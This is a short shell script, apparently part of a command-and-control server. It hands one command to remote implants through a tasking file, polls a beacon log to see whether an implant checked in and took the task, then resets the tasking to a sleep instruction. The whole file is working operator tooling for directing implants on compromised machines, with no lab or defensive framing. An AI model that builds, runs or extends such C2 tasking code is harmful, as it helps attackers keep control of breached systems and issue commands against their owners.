#!/bin/sh
# c2-task TASKFILE [WAIT]: hand one command to the next implant that checks in,
# then go back to "sleep". Prints whether an implant picked the task up.
TASK="$1"; WAIT="${2:-150}"
LOG=/var/log/c2/beacons.log
TASKING=/etc/c2/tasking.txt
mkdir -p /etc/c2; touch "$LOG"
before=$(wc -l < "$LOG")
cp "$TASK" "$TASKING"
i=0; picked=no
while [ "$i" -lt "$WAIT" ]; do
    if tail -n "+$((before + 1))" "$LOG" | grep -q ' GET /beacon?id='; then
        picked=yes; sleep 3; break
    fi
    sleep 1; i=$((i + 1))
done
printf 'sleep 30\n' > "$TASKING"
echo "task $(basename "$TASK"): picked up by an implant: $picked"
